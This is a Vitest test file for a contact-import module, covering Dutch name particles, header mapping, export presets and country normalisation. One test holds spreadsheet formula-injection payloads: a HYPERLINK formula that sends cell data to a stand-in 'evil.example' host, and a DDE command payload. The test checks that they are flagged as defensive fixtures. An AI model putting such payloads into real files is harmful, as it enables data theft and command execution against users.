import { describe, expect, it } from 'vitest';
import {
  BUILT_IN_PRESETS,
  applyPreset,
  mapRows,
  normaliseCountry,
  presetFromMapping,
  readTable,
  splitFullName,
  suggestMapping,
  type ColumnMapping,
} from '../../../../shared/import';
import { fixture } from './fixtures';

const importFixture = async (name: string) => {
  const table = await readTable(fixture(name));
  const { mapping, preset } = suggestMapping(table.headers);
  return { table, preset, ...mapRows(table.rows, mapping, { rowNumbers: table.rowNumbers }) };
};

describe('splitFullName', () => {
  it.each([
    ["Ruud van 't Hof", 'Ruud', "van 't Hof"],
    ['Anne de Vries-van Dam', 'Anne', 'de Vries-van Dam'],
    ['Jan Willem Jansen', 'Jan Willem', 'Jansen'],
    ['Pieter van der Berg', 'Pieter', 'van der Berg'],
    ["Hof, Ruud van 't", 'Ruud', "van 't Hof"],
    ['Jansen, Zoë', 'Zoë', 'Jansen'],
    ['Madonna', 'Madonna', ''],
    ['  Eva   ten   Bosch ', 'Eva', 'ten Bosch'],
  ])('%s → %s + %s', (full, givenName, familyName) => {
    expect(splitFullName(full)).toEqual({ givenName, familyName });
  });
});

describe('suggestMapping', () => {
  it('matches Dutch headers', () => {
    const { mapping, preset } = suggestMapping([
      'Voornaam',
      'Tussenvoegsel',
      'Achternaam',
      'E-mailadres',
      'Telefoon',
      'Mobiel',
      'Bedrijf',
      'Functie',
      'Straat',
      'Huisnummer',
      'Postcode',
      'Plaats',
      'Land',
      'Opmerkingen',
      'Groepen',
      'Klantnummer',
    ]);
    expect(preset).toBeNull();
    expect(mapping.map((t) => t && `${t.field}${t.label ? `:${t.label}` : ''}`)).toEqual([
      'givenName',
      'familyNamePrefix',
      'familyName',
      'email:work',
      'phone:work',
      'phone:mobile',
      'organisation',
      'jobTitle',
      'street',
      'street',
      'postalCode',
      'city',
      'country',
      'notes',
      'tags',
      null,
    ]);
  });

  it('matches English headers and leaves a second name column unmapped', () => {
    const { mapping } = suggestMapping(['Full name', 'E-mail address', 'Company', 'Job title', 'Name']);
    expect(mapping.map((t) => t?.field ?? null)).toEqual([
      'fullName',
      'email',
      'organisation',
      'jobTitle',
      null,
    ]);
  });

  it.each([
    ['google-contacts.csv', 'google-contacts'],
    ['outlook.csv', 'outlook'],
    ['hubspot.csv', 'hubspot'],
    ['contacts-v3.vcf', 'vcard'],
    ['dutch-excel-cp1252.csv', undefined],
  ])('detects the preset of %s', async (name, id) => {
    const table = await readTable(fixture(name));
    expect(suggestMapping(table.headers).preset?.id).toBe(id);
  });

  it('saves a mapping as a preset by header name and applies it to reordered headers', () => {
    const headers = ['Roepnaam', 'Achternaam', 'Mail'];
    const mapping: ColumnMapping = [
      { field: 'givenName' },
      { field: 'familyName' },
      { field: 'email', label: 'home' },
    ];
    const preset = presetFromMapping('mine', 'Ledenlijst', headers, mapping);
    expect(preset.mapping).toEqual({
      Roepnaam: { field: 'givenName' },
      Achternaam: { field: 'familyName' },
      Mail: { field: 'email', label: 'home' },
    });
    expect(applyPreset(preset, ['mail', 'Onbekend', 'ROEPNAAM'])).toEqual([
      { field: 'email', label: 'home' },
      null,
      { field: 'givenName' },
    ]);
    expect(BUILT_IN_PRESETS.map((p) => p.id)).toEqual(['google-contacts', 'outlook', 'hubspot', 'vcard']);
  });
});

describe('mapRows', () => {
  it('imports the Dutch Excel file: particles, street + house number, country names, invalid email dropped and reported', async () => {
    const { candidates, issues } = await importFixture('dutch-excel-cp1252.csv');
    expect(candidates.map((c) => c.valid)).toEqual([true, true, true]);
    expect(candidates[0]!.person).toEqual({
      givenName: 'Zoë',
      familyName: 'Jansen',
      emails: [{ value: 'zoe.jansen@example.nl', label: 'work' }],
      phones: [{ value: '06-12345678', label: 'work' }],
      address: {
        street: 'Kerkstraat 12',
        postalCode: '1234 AB',
        city: 'Lelystad',
        region: '',
        country: 'NL',
      },
      jobTitle: 'Directeur',
      organisationName: 'Rederij IJsselmeer B.V.',
      tags: [],
      notes: 'Belt graag; "s ochtends"',
    });
    expect(candidates[1]!.person).toMatchObject({
      givenName: 'Ruud',
      familyName: "van 't Hof",
      organisationName: "Café 't Hoekje",
    });
    expect(candidates[2]!.person).toMatchObject({ givenName: 'Daniël', familyName: 'de Vries', emails: [] });
    expect(candidates[2]!.person.address?.country).toBe('BE');
    expect(issues).toEqual([
      { index: 2, row: 4, column: 4, field: 'email', code: 'invalid_email', severity: 'warning' },
    ]);
  });

  it('imports a Google Contacts export: labels from the Label columns, address, labels as tags', async () => {
    const { candidates, issues } = await importFixture('google-contacts.csv');
    expect(issues).toEqual([]);
    expect(candidates[0]!.person).toEqual({
      givenName: 'Ruud',
      familyName: "van 't Hof",
      emails: [
        { value: 'ruud@hoekje.nl', label: 'work' },
        { value: 'ruud.hof@gmail.com', label: 'home' },
      ],
      phones: [
        { value: '+31 6 12345678', label: 'mobile' },
        { value: '020-1234567', label: 'work' },
      ],
      address: {
        street: 'Dorpsstraat 3a',
        postalCode: '8011 AA',
        city: 'Zwolle',
        region: 'Overijssel',
        country: 'NL',
      },
      jobTitle: 'Eigenaar',
      organisationName: "Café 't Hoekje",
      tags: ['Klanten'],
      notes: 'Vaste klant',
    });
  });

  it('imports an Outlook export: the home address when there is no business address', async () => {
    const { candidates } = await importFixture('outlook.csv');
    expect(candidates[0]!.person).toMatchObject({
      givenName: 'Sanne',
      familyName: 'de Boer',
      phones: [
        { value: '+31 30 123 4567', label: 'work' },
        { value: '06-87654321', label: 'mobile' },
      ],
      address: {
        street: 'Lindelaan 4',
        postalCode: '3511 AB',
        city: 'Utrecht',
        region: 'Utrecht',
        country: 'NL',
      },
      organisationName: 'De Boer Techniek',
      tags: ['Leads', 'Beurs'],
    });
  });

  it('imports a HubSpot export', async () => {
    const { candidates } = await importFixture('hubspot.csv');
    expect(candidates[0]!.person).toMatchObject({
      givenName: 'Thijs',
      familyName: 'Bakker',
      emails: [{ value: 'thijs@bakker.example', label: 'work' }],
      organisationName: 'Bakker Logistiek',
      jobTitle: 'CFO',
      address: { city: 'Rotterdam', region: 'Zuid-Holland', country: 'NL' },
    });
  });

  it('imports vCards with their labels', async () => {
    const { candidates } = await importFixture('contacts-v3.vcf');
    expect(candidates[0]!.person).toMatchObject({
      givenName: 'Ruud',
      familyName: "van 't Hof",
      emails: [
        { value: 'ruud@hoekje.nl', label: 'other' },
        { value: 'ruud.hof@example.nl', label: 'home' },
      ],
      phones: [
        { value: '+31 6 1234 5678', label: 'mobile' },
        { value: '020 123 4567', label: 'work' },
      ],
      tags: ['Klanten', 'Horeca'],
      notes: 'Zoë zegt: klant sinds 2019, bel na 10 uur.',
    });
    expect(candidates[1]!.person).toMatchObject({
      givenName: 'Zoë',
      familyName: 'Jansen',
      organisationName: 'Rederij IJsselmeer',
    });
  });

  it('splits full names from a tab-delimited file', async () => {
    const { candidates } = await importFixture('tab-delimited.tsv');
    expect(candidates.map((c) => [c.person.givenName, c.person.familyName])).toEqual([
      ['Ruud', "van 't Hof"],
      ['Anne', 'de Vries-van Dam'],
      ['Ruud', "van 't Hof"],
    ]);
  });

  it('keeps formula cells as plain text and flags them, except a phone number with its + prefix', async () => {
    const { candidates, issues } = await importFixture('formulas.csv');
    expect(candidates[0]!.person.notes).toBe('=HYPERLINK("http://evil.example/?d="&A2)');
    expect(candidates[0]!.person.organisationName).toBe('@SUM(1+1)');
    expect(candidates[1]!.person.notes).toBe("+cmd|' /C calc'!A0");
    expect(issues).toEqual([
      { index: 0, row: 2, column: 5, field: 'notes', code: 'formula_text', severity: 'warning' },
      { index: 0, row: 2, column: 6, field: 'organisation', code: 'formula_text', severity: 'warning' },
      { index: 1, row: 3, column: 4, field: 'phone', code: 'formula_text', severity: 'warning' },
      { index: 1, row: 3, column: 5, field: 'notes', code: 'formula_text', severity: 'warning' },
      { index: 1, row: 3, column: 4, field: 'phone', code: 'invalid_phone', severity: 'warning' },
    ]);
    expect(candidates.every((c) => c.valid)).toBe(true);
  });

  it('reports a row without a name or with a field too long, and goes on with the others', () => {
    const mapping: ColumnMapping = [
      { field: 'givenName' },
      { field: 'familyName' },
      { field: 'email' },
      { field: 'country' },
    ];
    const rows = [
      ['', '', 'x@example.nl', ''],
      ['Eva', 'x'.repeat(101), '', ''],
      ['Kees', 'Visser', 'KEES@Example.nl', 'Atlantis'],
    ];
    const { candidates, issues } = mapRows(rows, mapping, {
      startIndex: 100,
      rowNumbers: [...Array(100).fill(0), 7, 9, 12],
    });
    expect(candidates.map((c) => [c.index, c.row, c.valid])).toEqual([
      [100, 7, false],
      [101, 9, false],
      [102, 12, true],
    ]);
    expect(candidates[2]!.person.emails).toEqual([{ value: 'kees@example.nl', label: 'work' }]);
    expect(candidates[2]!.person.address).toEqual({
      street: '',
      postalCode: '',
      city: '',
      region: '',
      country: '',
    });
    expect(issues).toEqual([
      { index: 100, row: 7, code: 'missing_name', severity: 'error' },
      { index: 101, row: 9, column: 2, field: 'familyName', code: 'too_long', severity: 'error' },
      { index: 102, row: 12, column: 4, field: 'country', code: 'invalid_country', severity: 'warning' },
    ]);
  });

  it('splits several emails in one cell and drops repeats', () => {
    const { candidates } = mapRows(
      [['Eva', 'a@x.nl; b@x.nl ::: A@x.nl']],
      [{ field: 'givenName' }, { field: 'email' }],
    );
    expect(candidates[0]!.person.emails.map((e) => e.value)).toEqual(['a@x.nl', 'b@x.nl']);
  });
});

describe('normaliseCountry', () => {
  it.each([
    ['NL', 'NL'],
    ['nl', 'NL'],
    ['Nederland', 'NL'],
    ['The Netherlands', 'NL'],
    ['Holland', 'NL'],
    ['België', 'BE'],
    ['Belgium', 'BE'],
    ['Duitsland', 'DE'],
    ['UK', 'GB'],
    ['', ''],
    ['Atlantis', null],
    ['QQ', null],
  ])('%s → %s', (cell, code) => {
    expect(normaliseCountry(cell)).toBe(code);
  });
});
